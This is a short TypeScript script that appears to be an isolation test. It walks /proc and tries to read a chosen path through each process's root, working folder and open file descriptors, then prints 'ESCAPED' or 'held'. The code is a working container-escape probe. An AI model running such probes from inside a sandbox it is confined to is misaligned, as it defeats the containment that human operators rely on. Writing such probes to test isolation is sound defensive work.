// Tries to climb out by what /proc knows of each process: its root, its working folder, its open files.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const [, , note = ''] = process.argv;
const processes = readdirSync('/proc').filter((name) => /^(\d+|self|thread-self)$/.test(name));
const doors = processes.flatMap((pid) => {
  const files = entriesOf(`/proc/${pid}/fd`).map((fd) => `fd/${fd}`);
  return ['root', 'cwd', ...files].map((door) => join('/proc', pid, door));
});
const way = doors.flatMap((door) => [`${door}${note}`, `${door}/..${note}`]).find(canBeRead);
console.log(way ? `ESCAPED: read ${way}` : `held: ${doors.length} doors lead nowhere`);

function entriesOf(folder: string): string[] {
  try {
    return readdirSync(folder);
  } catch {
    return [];
  }
}

function canBeRead(path: string): boolean {
  try {
    return readFileSync(path).length > 0;
  } catch {
    return false;
  }
}
